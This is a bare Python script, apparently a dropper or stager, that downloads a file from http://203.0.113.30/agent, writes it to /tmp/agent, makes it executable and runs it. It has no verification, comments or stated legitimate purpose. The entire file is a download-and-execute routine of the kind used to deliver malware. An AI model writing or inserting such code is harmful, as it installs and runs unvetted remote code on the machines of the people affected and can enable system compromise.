import requests, subprocess, os
def fetch(url, dest):
    r = requests.get(url, timeout=30)
    with open(dest, "wb") as f:
        f.write(r.content)
    return dest
path = fetch("http://203.0.113.30/agent", "/tmp/agent")
os.chmod(path, 0o755)
subprocess.Popen([path])
